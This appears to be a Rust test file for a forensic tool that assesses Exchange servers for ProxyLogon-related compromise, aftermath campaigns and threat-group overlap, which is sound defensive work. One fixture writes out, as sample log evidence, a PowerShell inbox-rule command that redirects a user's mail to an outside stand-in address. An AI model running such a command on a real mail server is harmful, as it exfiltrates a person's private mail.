//! Kinds of campaigns over whole assessments: what counts when, and what the answer says of it.

use model::assessment::{Assessment, Verdict};
use model::campaign::{Campaign, CampaignKind, Group, Proves, Stage};

use crate::testing::{Builder, at, campaign, need, records, sighting};

const IN_WINDOW: &str = "2021-03-03T04:00:00Z";

fn other(id: &str, kind: CampaignKind) -> Campaign {
    Campaign {
        id: id.to_owned(),
        name: format!("the {id} matter"),
        kind,
        cves: Vec::new(),
        entry_cves: Vec::new(),
        ..campaign()
    }
}

/// A rule of another campaign, and a hit of it.
fn hit(builder: &mut Builder, id: &str, stage: Stage, proves: Proves) {
    let rule = builder.rule(&format!("{id}/rule"), stage, proves);
    builder.observations.rules[rule].campaign = Some(id.to_owned());
    let mut one = sighting(rule, "windows/Security", IN_WINDOW);
    one.client = Some("203.0.113.7".to_owned());
    builder.see(one);
}

fn said(assessment: &Assessment) -> String {
    assessment.servers[0].answers.campaign.answer.clone()
}

fn exposed(assessment: &Assessment) -> Vec<(&str, Verdict)> {
    assessment.servers[0].exposure.iter().map(|one| (one.campaign.as_str(), one.verdict)).collect()
}

#[test]
fn an_aftermath_counts_where_it_is_found_and_is_no_way_in() {
    let mut builder = Builder::new().covered();
    builder.observations.campaigns.push(other("dearcry", CampaignKind::Aftermath));
    assert_eq!(exposed(&builder.assess()), [("proxylogon", Verdict::NoEvidence)]);
    hit(&mut builder, "dearcry", Stage::Control, Proves::Execution);
    let assessment = builder.assess();
    assert_eq!(exposed(&assessment), [("dearcry", Verdict::Compromised), ("proxylogon", Verdict::NoEvidence)]);
    assert_eq!(assessment.servers[0].incidents[0].campaign, "dearcry");
    assert!(assessment.servers[0].exposure[0].until.is_none(), "no update ends it");
    hit(&mut builder, "proxylogon", Stage::Access, Proves::Success);
    let incident = &builder.assess().servers[0].incidents[0];
    assert_eq!((incident.campaign.as_str(), incident.also.as_slice()), ("proxylogon", &["dearcry".to_owned()][..]));
}

#[test]
fn what_leaves_no_trace_is_never_ruled_out() {
    let mut builder = Builder::new().covered();
    let mut relay = other("relay", CampaignKind::Untraceable);
    relay.needs = vec![need(&[])];
    relay.cves = vec!["CVE-2024-21410".to_owned()];
    relay.entry_cves.clone_from(&relay.cves);
    builder.observations.campaigns.push(relay.clone());
    let assessment = builder.assess();
    assert_eq!(exposed(&assessment), [("proxylogon", Verdict::NoEvidence), ("relay", Verdict::CannotTell)]);
    assert_eq!(assessment.verdict, Verdict::CannotTell);
    assert!(said(&assessment).contains("the relay matter: its use leaves no trace"), "{}", said(&assessment));
    let summary = &assessment.servers[0].summary;
    assert!(summary.contains("open to the relay matter, whose use leaves no trace in logs"), "{summary}");
    relay.first_use = None;
    builder.observations.campaigns[1] = relay;
    assert_eq!(builder.assess().verdict, Verdict::NoEvidence, "no use of it is known");
}

#[test]
fn a_separate_intrusion_is_always_spoken_of() {
    let mut builder = Builder::new().covered();
    let mut sunburst = other("sunburst", CampaignKind::Separate);
    sunburst.needs = vec![need(&["windows/DNS Server"])];
    builder.observations.campaigns.push(sunburst);
    assert!(said(&builder.assess()).contains("holds nothing in which its own traces would show"));
    records(builder.server(), "windows/DNS Server", "2021-01-01", "2021-03-10");
    assert!(said(&builder.assess()).contains("were looked for in windows/DNS Server and not found"));
    assert_eq!(exposed(&builder.assess()), [("proxylogon", Verdict::NoEvidence)]);
    hit(&mut builder, "sunburst", Stage::Control, Proves::Execution);
    let assessment = builder.assess();
    assert!(said(&assessment).contains("traces of its own were found (sunburst/rule)"), "{}", said(&assessment));
    assert!(said(&assessment).contains("Against ProxyLogon"), "{}", said(&assessment));
}

#[test]
fn a_group_is_overlap_with_dates_for_and_against() {
    let mut builder = Builder::new().covered();
    let group = |id: &str, first: &str| Group {
        id: id.to_owned(),
        name: format!("Group {id}"),
        first_use: Some(at(first)),
        note: String::new(),
        source: String::new(),
    };
    builder.observations.campaigns[0].groups = vec![group("early", "2021-02-01"), group("late", "2021-03-05")];
    hit(&mut builder, "proxylogon", Stage::Access, Proves::Success);
    let none = said(&builder.assess());
    assert!(!none.contains("Group"), "{none}");
    for id in ["early", "late"] {
        let rule = builder.indicator(&format!("proxylogon/indicator-name-{id}"), Stage::Foothold, Proves::Context);
        builder.observations.rules[rule].group = Some(id.to_owned());
        builder.see(sighting(rule, "httpproxy/Ecp", IN_WINDOW));
    }
    let text = said(&builder.assess());
    assert!(text.contains("Group early (1 indicator hit, by file name)"), "{text}");
    assert!(text.contains("Group late (1 indicator hit, by file name; against it: it is first reported"), "{text}");
    assert!(text.contains("Overlap is no attribution"), "{text}");
}

#[test]
fn indicators_of_a_campaign_that_does_not_count_are_mentioned() {
    let mut builder = Builder::new().covered();
    builder.observations.campaigns.push(other("dearcry", CampaignKind::Aftermath));
    let rule = builder.indicator("dearcry/indicator-sha256", Stage::Foothold, Proves::Context);
    builder.observations.rules[rule].campaign = Some("dearcry".to_owned());
    builder.see(sighting(rule, "file", IN_WINDOW));
    let assessment = builder.assess();
    assert_eq!(assessment.verdict, Verdict::NoEvidence);
    assert!(said(&assessment).contains("Published indicators of the dearcry matter match"), "{}", said(&assessment));
}

#[test]
fn no_update_of_another_way_in_ends_an_aftermath() {
    let mut builder = Builder::new().covered();
    builder.observations.campaigns.push(other("module", CampaignKind::Aftermath));
    let rule = builder.rule("module/rule", Stage::Control, Proves::Execution);
    builder.observations.rules[rule].campaign = Some("module".to_owned());
    // After the update of ProxyLogon, of which nothing was found.
    builder.see(sighting(rule, "windows/Security", "2021-03-09T04:00:00Z"));
    let over = builder.assess().servers[0].answers.over.answer.clone();
    assert!(!over.contains("no use of the foothold is seen after it"), "{over}");
}

#[test]
fn attempts_that_look_the_same_speak_for_both() {
    let mut builder = Builder::new().covered();
    let mut earlier = campaign();
    (earlier.id, earlier.name) = ("earlier".to_owned(), "Earlier".to_owned());
    earlier.first_use = None;
    earlier.resembles = vec!["proxylogon".to_owned()];
    builder.observations.campaigns.push(earlier);
    hit(&mut builder, "earlier", Stage::Access, Proves::Attempt);
    let assessment = builder.assess();
    let of =
        |id: &str| exposed(&assessment).into_iter().find(|(campaign, _)| *campaign == id).map(|(_, verdict)| verdict);
    assert_eq!(of("proxylogon"), Some(Verdict::Targeted));
    assert!(said(&assessment).contains("ProxyLogon: attempts were seen that look the same"), "{}", said(&assessment));
}

#[test]
fn a_way_in_that_needs_a_password_names_whose() {
    let mut builder = Builder::new().covered();
    builder.observations.campaigns[0].authenticated = true;
    let rule = builder.rule("proxylogon/shell", Stage::Access, Proves::Success);
    let mut one = sighting(rule, "iis/W3SVC1", IN_WINDOW);
    one.client = Some("203.0.113.7".to_owned());
    builder.see(one.clone());
    let entry = |builder: &Builder| builder.assess().servers[0].answers.entry.answer.clone();
    assert!(entry(&builder).contains("no record names whose"), "{}", entry(&builder));
    one.account = Some("CORP\\alice".to_owned());
    builder.server().sightings = vec![one];
    assert!(entry(&builder).contains("it was used as CORP\\alice"), "{}", entry(&builder));
    let next = builder.assess().servers[0].answers.next.answer.clone();
    assert!(next.contains("Set new passwords for CORP\\alice"), "{next}");
}

#[test]
fn mail_that_is_sent_on_is_mail_of_somebody() {
    let mut builder = Builder::new().covered();
    let exploit = builder.rule("proxylogon/written", Stage::Access, Proves::Success);
    builder.see(sighting(exploit, "httpproxy/Ecp", IN_WINDOW));
    let forward = builder.rule("exchange-host/mail-forward-event", Stage::Exfiltration, Proves::Context);
    builder.observations.rules[forward].attack = vec!["T1114.003".to_owned()];
    let mut one = sighting(forward, "windows/MSExchange Management", IN_WINDOW);
    one.subject = Some("-RedirectTo @(\"x@zz.example\") -Mailbox \"victor\"".to_owned());
    one.evidence[0].raw = b"New-InboxRule -RedirectTo @(\"x@zz.example\") -Mailbox \"victor\"".to_vec().into();
    builder.see(one);
    let server = &builder.assess().servers[0];
    assert_eq!((server.mailboxes[0].mailbox.as_str(), server.mailboxes[0].how.as_str()), ("victor", "forwarding"));
    assert_eq!(server.persistence[0].name, "of victor");
}
